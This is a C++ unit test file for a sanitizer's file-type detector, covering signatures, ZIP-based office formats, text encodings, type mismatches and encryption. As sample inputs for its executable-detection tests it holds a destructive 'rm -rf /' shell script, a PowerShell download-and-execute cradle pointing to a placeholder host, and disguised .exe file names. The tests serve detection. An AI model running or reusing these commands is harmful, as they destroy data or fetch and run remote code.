// What octets are, whatever their name says.
#include <doctest/doctest.h>

#include <algorithm>
#include <string>
#include <string_view>

#include "proto/base/limits.h"
#include "sanitizers/type/table.h"
#include "sanitizers/type/type.h"

namespace type = kiyome::sanitizer::type;
using kiyome::clean::Finding;
using namespace std::string_literals;

namespace {

bool has(const type::Detected& detected, Finding finding) {
  return std::find(detected.findings.begin(), detected.findings.end(), finding) != detected.findings.end();
}

std::string of(std::string_view octets, std::string_view name = "") {
  return type::detect(octets, name, "").type;
}

// A stored ZIP with empty entries of these names.
std::string zip_of(std::initializer_list<std::string_view> names, unsigned flags = 0,
                   std::string_view first_data = "") {
  std::string local, central;
  std::size_t count = 0;
  const auto u16 = [](std::string& to, std::size_t v) {
    to += static_cast<char>(v & 0xff);
    to += static_cast<char>(v >> 8 & 0xff);
  };
  const auto u32 = [&](std::string& to, std::size_t v) {
    u16(to, v & 0xffff);
    u16(to, v >> 16);
  };
  for (const std::string_view name : names) {
    const std::string_view data = count == 0 ? first_data : std::string_view();
    const std::size_t offset = local.size();
    local += "PK\x03\x04";
    for (const std::size_t v : {20u, flags, 0u, 0u, 0u}) u16(local, v);
    u32(local, 0);
    u32(local, data.size());
    u32(local, data.size());
    u16(local, name.size());
    u16(local, 0);
    local.append(name).append(data);
    central += "PK\x01\x02";
    for (const std::size_t v : {20u, 20u, flags, 0u, 0u, 0u}) u16(central, v);
    u32(central, 0);
    u32(central, data.size());
    u32(central, data.size());
    for (const std::size_t v : {name.size(), std::size_t{0}, std::size_t{0}, std::size_t{0}, std::size_t{0}})
      u16(central, v);
    u32(central, 0);
    u32(central, offset);
    central.append(name);
    ++count;
  }
  std::string out = local + central + "PK\x05\x06";
  u32(out, 0);
  u16(out, count);
  u16(out, count);
  u32(out, central.size());
  u32(out, local.size());
  u16(out, 0);
  return out;
}

}  // namespace

TEST_CASE("the table of types holds each extension's and each name's type once, in lower case") {
  for (const type::TypeInfo& info : type::all_types()) {
    CAPTURE(info.type);
    CHECK(type::find_type(info.type) == &info);
    for (const std::string_view words : {info.type, info.aliases, info.extensions})
      CHECK(std::none_of(words.begin(), words.end(), [](char c) { return c >= 'A' && c <= 'Z'; }));
    std::size_t at = 0;
    while (at < info.aliases.size()) {
      const std::size_t end = std::min(info.aliases.find(' ', at), info.aliases.size());
      CHECK(type::find_type(info.aliases.substr(at, end - at)) == &info);
      at = end + 1;
    }
  }
}

TEST_CASE("signatures") {
  struct Case {
    std::string octets;
    std::string_view expected;
  };
  const Case cases[] = {
      {"%PDF-1.7\n"s, "application/pdf"},
      {std::string(900, ' ') + "%PDF-1.4", "application/pdf"},
      {"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"s, "image/png"},
      {"\xff\xd8\xff\xe0\0\x10JFIF"s, "image/jpeg"},
      {"GIF89a\1\0\1\0"s, "image/gif"},
      {"RIFF\0\0\0\0WEBPVP8 "s, "image/webp"},
      {"\0\0\0\x18"
       "ftypheic\0\0\0\0mif1heic"s,
       "image/heic"},
      {"\0\0\0\x18"
       "ftypisom\0\0\0\0"s,
       "video/mp4"},
      {"  {\\rtf1 x}"s, "text/rtf"},
      {"{\\rt1 x}"s, "text/rtf"},
      {"7z\xbc\xaf\x27\x1c\0\4"s, "application/x-7z-compressed"},
      {"Rar!\x1a\x07\x00"s, "application/vnd.rar"},
      {"!\x11-lh5-xxxxxxxxxxxxxxxxxxx"s, "application/x-lzh-compressed"},
      {"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"s + std::string(44, '\0') + "\x40\0\0\0PE\0\0"s,
       "application/vnd.microsoft.portable-executable"},
      {"\x7f"
       "ELF\2\1\1"s,
       "application/x-elf"},
      {"\xca\xfe\xba\xbe\0\0\0\x34"s, "application/java-vm"},
      {"\xca\xfe\xba\xbe\0\0\0\2"s, "application/x-mach-binary"},
      {"L\0\0\0\x01\x14\x02\0\0\0"s, "application/x-ms-shortcut"},
      {"\x78\x9f\x3e\x22\1\0"s, "application/vnd.ms-tnef"},
      {"JwwData.\0\0"s, "application/x-jww"},
      {"ISO-10303-21;\nHEADER;\n"s, "model/step"},
      {"  0\r\nSECTION\r\n  2\r\nHEADER\r\n"s, "image/vnd.dxf"},
      {"AC1027\0\0\0\0\0\0\0\0\0\0\0\0"s, "image/vnd.dwg"},
      {"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"s, "application/onenote"},
      {"SQLite format 3\0"s, "application/vnd.sqlite3"},
  };
  for (const Case& one : cases) {
    CAPTURE(one.expected);
    CHECK(of(one.octets) == one.expected);
  }
}

TEST_CASE("of many lists of content types a ZIP's first ones count, and they cost nothing") {
  const std::string list = "[Content_Types].xml", text = "macroEnabled.main+xml";
  const auto entries = [&](std::size_t before) {
    std::string out;
    for (std::size_t i = 0; i <= before; ++i) {
      const std::string data = i == before ? text : "x";
      out += "PK\x03\x04" + std::string(14, '\0');
      for (int twice = 0; twice < 2; ++twice) out += static_cast<char>(data.size()) + std::string(3, '\0');
      out += static_cast<char>(list.size()) + std::string(3, '\0') + list + data;
    }
    return out + zip_of({"word/document.xml"});
  };
  CHECK(of(entries(kiyome::limits::kZipContentTypes - 1)).ends_with("macroenabled.12"));
  CHECK(of(entries(kiyome::limits::kZipContentTypes)).ends_with("wordprocessingml.document"));
}

TEST_CASE("a ZIP is what its entries make it") {
  CHECK(of(zip_of({"a.txt"})) == "application/zip");
  CHECK(of(zip_of({"[Content_Types].xml", "word/document.xml"})).ends_with("wordprocessingml.document"));
  CHECK(of(zip_of({"customXml/item1.xml", "[Content_Types].xml", "xl/workbook.xml"}))
            .ends_with("spreadsheetml.sheet"));
  CHECK(of(zip_of({"[Content_Types].xml", "ppt/presentation.xml"})).ends_with("presentationml.presentation"));
  CHECK(of(zip_of({"[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"})) ==
        "application/vnd.ms-word.document.macroenabled.12");
  CHECK(of(zip_of({"[Content_Types].xml", "xl/workbook.bin"})) ==
        "application/vnd.ms-excel.sheet.binary.macroenabled.12");
  CHECK(of(zip_of({"META-INF/MANIFEST.MF", "A.class"})) == "application/java-archive");
  CHECK(of(zip_of({"AndroidManifest.xml", "classes.dex"})) == "application/vnd.android.package-archive");
  CHECK(of(zip_of({"[Content_Types].xml", "FixedDocSeq.fdseq"})) == "application/vnd.ms-xpsdocument");
  CHECK(of(zip_of({"mimetype", "content.xml"}, 0, "application/vnd.oasis.opendocument.text")) ==
        "application/vnd.oasis.opendocument.text");
  // A word of the sender's in that place names no other type.
  for (const std::string_view word :
       {"application/pdf", "text/plain", "application/x/y", "application/vnd.oasis.opendocument.x",
        "application/vnd.oasis.opendocument./", "image/png"})
    CHECK(of(zip_of({"mimetype"}, 0, word)) == "application/zip");
  CHECK(of(zip_of({"mimetype"}, 0, "application/vnd.oasis.opendocument.text-template")) ==
        "application/vnd.oasis.opendocument.text");
  CHECK(of(zip_of({"mimetype"}, 0, "application/epub+zip")) == "application/epub+zip");
  CHECK(has(type::detect(zip_of({"secret.txt"}, 1), "a.zip", "application/zip"), Finding::kEncrypted));
  CHECK_FALSE(has(type::detect(zip_of({"open.txt"}), "a.zip", "application/zip"), Finding::kEncrypted));
}

TEST_CASE("texts of all kinds") {
  struct Case {
    std::string_view octets, name, expected;
  };
  const Case cases[] = {
      {"こんにちは\n", "a.txt", "text/plain"},
      {"\x82\xb1\x82\xf1\x82\xc9\x82\xbf\x82\xcd\r\n", "a.txt", "text/plain"},
      {"\x1b$B$3$s\x1b(B\n", "a.txt", "text/plain"},
      {"a,b\n1,2\n", "a.csv", "text/csv"},
      {"{\"a\": 1}", "a.json", "application/json"},
      {"{\"a\": \"<script>\"}", "a.json", "application/json"},
      {"<?xml version=\"1.0\"?><root/>", "a.xml", "application/xml"},
      {"<?xml version=\"1.0\"?><!-- c --><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "a.svg",
       "image/svg+xml"},
      {"\n\n   <HTML><body>x", "a.htm", "text/html"},
      {"x <script>alert(1)</script>", "a.txt", "text/html"},
      {"BEGIN:VCALENDAR\nEND:VCALENDAR\n", "a.ics", "text/calendar"},
      {"BEGIN:VCARD\nEND:VCARD\n", "a.vcf", "text/vcard"},
      {"From: a@b\nTo: c@d\nSubject: x\n\nbody", "a.eml", "message/rfc822"},
      {"From a@b Mon Jan 1 00:00:00 2024\nSubject: x\n\nbody", "a.mbox", "application/mbox"},
      {"-----BEGIN PGP MESSAGE-----\n", "a.asc", "application/pgp-encrypted"},
      {"-----BEGIN CERTIFICATE-----\n", "a.pem", "application/x-pem-file"},
  };
  for (const Case& one : cases) {
    CAPTURE(one.octets);
    const type::Detected detected = type::detect(one.octets, one.name, "");
    CHECK(detected.type == one.expected);
    CHECK(detected.text_like == (one.expected != "application/pgp-encrypted"));
    CHECK_FALSE(has(detected, Finding::kExecutable));
    CHECK_FALSE(has(detected, Finding::kTypeMismatch));
  }
  CHECK(of("\xff\xfe\x42\x30\x44\x30\x0d\0\x0a\0"s, "a.txt") == "text/plain");
  CHECK(of("\0\1\2\3\4\5\6\7"s) == "application/octet-stream");
}

TEST_CASE("scripts and shortcuts are executable by content, whatever they are called") {
  struct Case {
    std::string_view octets, expected;
  };
  const Case cases[] = {
      {"#!/bin/sh\nrm -rf /\n", "text/x-shellscript"},
      {"#!/usr/bin/env python3\n", "text/x-python"},
      {"@echo off\r\nstart calc\r\n", "text/x-msdos-batch"},
      {"var x = new ActiveXObject(\"WScript.Shell\"); function f() { return eval(y); }", "text/javascript"},
      {"Set s = CreateObject(\"WScript.Shell\")\r\nOn Error Resume Next\r\nDim a\r\ns.Run \"calc\"",
       "text/vbscript"},
      {"$c = New-Object Net.WebClient; Invoke-Expression $c.DownloadString('http://x')", "text/x-powershell"},
      {"[InternetShortcut]\r\nURL=http://x/\r\n", "application/internet-shortcut"},
      {"[Shell]\r\nCommand=2\r\nIconFile=\\\\x\\y\r\n", "application/x-scf"},
      {"Windows Registry Editor Version 5.00\r\n", "text/x-ms-regedit"},
      {"<html><head><HTA:APPLICATION id=x></head></html>", "application/hta"},
      {"<job><script language=\"JScript\">x</script></job>", "application/x-wsf"},
  };
  for (const Case& one : cases) {
    CAPTURE(one.octets);
    const type::Detected detected = type::detect(one.octets, "memo.txt", "text/plain");
    CHECK(detected.type == one.expected);
    CHECK(has(detected, Finding::kExecutable));
  }
  CHECK_FALSE(has(type::detect("The @echo off command hides output.\nUse eval( with care.\n", "a.txt", ""),
                  Finding::kExecutable));
  CHECK_FALSE(has(type::detect("日程は var の件です。 function 会議\n", "a.txt", ""), Finding::kExecutable));
}

TEST_CASE("a name that a desktop runs is executable, whatever its content") {
  for (const std::string_view name :
       {"a.exe", "請求書.pdf.exe", "a.SCR", "a.js", "a.lnk", "a.exe.", "a.exe ", "a.iso", "a.ps1",
        "x.library-ms", "a.exe::$DATA", "dir/a.cmd", "a.hta", "a.jar", "a.vbs"}) {
    CAPTURE(name);
    CHECK(has(type::detect("hello", name, ""), Finding::kExecutable));
  }
  for (const std::string_view name : {"a.txt", "a.exe.txt", "exe", "", ".", "資料.pdf", "a.docx"}) {
    CAPTURE(name);
    CHECK_FALSE(has(type::detect("hello", name, ""), Finding::kExecutable));
  }
}

TEST_CASE("claims are compared with sense") {
  struct Case {
    std::string octets;
    std::string_view name, declared;
    bool mismatch;
  };
  const std::string docx = zip_of({"[Content_Types].xml", "word/document.xml"});
  const Case cases[] = {
      {"%PDF-1.4", "a.pdf", "application/pdf", false},
      {"%PDF-1.4", "a.pdf", "application/octet-stream", false},
      {"%PDF-1.4", "a.pdf", "application/x-pdf; name=x", false},
      {"%PDF-1.4", "", "", false},
      {"%PDF-1.4", "a.doc", "", true},
      {"%PDF-1.4", "a.pdf", "image/png", true},
      {"hello", "a.pdf", "application/pdf", true},
      {"\xff\xd8\xff\xe0", "a.jpg", "image/jpg", false},
      {"\xff\xd8\xff\xe0", "a.jpeg", "image/pjpeg", false},
      {"\xff\xd8\xff\xe0", "a.png", "image/png", true},
      {docx, "a.docx", "application/msword", false},
      {docx, "a.docx", "application/zip", false},
      {docx, "a.zip", "", true},
      {docx, "a.doc", "", true},
      {zip_of({"x"}), "a.zip", "application/x-zip-compressed", false},
      {"{\\rtf1}", "a.rtf", "application/rtf", false},
      {"{\\rtf1}", "a.doc", "application/msword", true},
      {"a,b\n", "a.csv", "application/vnd.ms-excel", false},
      {"a,b\n", "a.csv", "text/plain", false},
      {"text", "a.log", "text/x-log", false},
      {"text", "a.unheard", "application/x-unheard", false},
      {"", "a.pdf", "application/pdf", false},
  };
  for (const Case& one : cases) {
    CAPTURE(one.name);
    CAPTURE(one.declared);
    CHECK(has(type::detect(one.octets, one.name, one.declared), Finding::kTypeMismatch) == one.mismatch);
  }
}

TEST_CASE("plain signs of encryption") {
  const auto sealed = [](std::string_view octets) {
    return has(type::detect(octets, "", ""), Finding::kEncrypted);
  };
  CHECK(sealed("%PDF-1.4\ntrailer << /Encrypt 5 0 R >>"));
  CHECK_FALSE(sealed("%PDF-1.4\ntrailer << /EncryptMetadata false >>"));
  CHECK(sealed("Rar!\x1a\x07\x00\xcf\x90\x73\x80\x00\x0d\x00\0\0\0\0\0\0"s));
  CHECK(sealed("Rar!\x1a\x07\x01\x00\0\0\0\0\x05\x04\0\0\0\0\0\0"s));
}
